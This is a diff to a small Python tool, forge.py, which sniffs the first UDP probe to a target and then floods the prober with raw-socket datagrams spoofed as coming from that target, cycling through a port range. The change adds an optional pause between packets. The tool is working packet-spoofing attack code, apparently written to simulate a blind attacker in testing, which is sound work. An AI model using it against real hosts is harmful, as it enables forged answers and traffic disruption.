@@ -1,9 +1,9 @@
 #!/usr/bin/env python3
-"""Forges answers of a target: forge.py INTERFACE TARGET FIRST_PORT LAST_PORT
+"""Forges answers of a target: forge.py INTERFACE TARGET FIRST_PORT LAST_PORT [PAUSE]
 
 Waits for the first UDP probe to TARGET that passes INTERFACE and learns from it who asks from which port, as a blind
 attacker would by trying all of them. Then sends datagrams from TARGET to that port, from each of the ports in turn, a
-thousand in a second, until it is killed.
+thousand in a second or with another pause between them, until it is killed.
 """
 import socket
 import struct
@@ -31,7 +31,8 @@ def first_probe(interface, target):
 
 
 def main():
-    interface, target, first, last = sys.argv[1:]
+    interface, target, first, last = sys.argv[1:5]
+    pause = float(sys.argv[5]) if len(sys.argv) > 5 else 0.001
     target = socket.inet_aton(target)
     prober, port = first_probe(interface, target)
     out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
@@ -44,7 +45,7 @@ def main():
             )
             head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
             out.sendto(head + udp, (socket.inet_ntoa(prober), 0))
-            time.sleep(0.001)
+            time.sleep(pause)
 
 
 main()
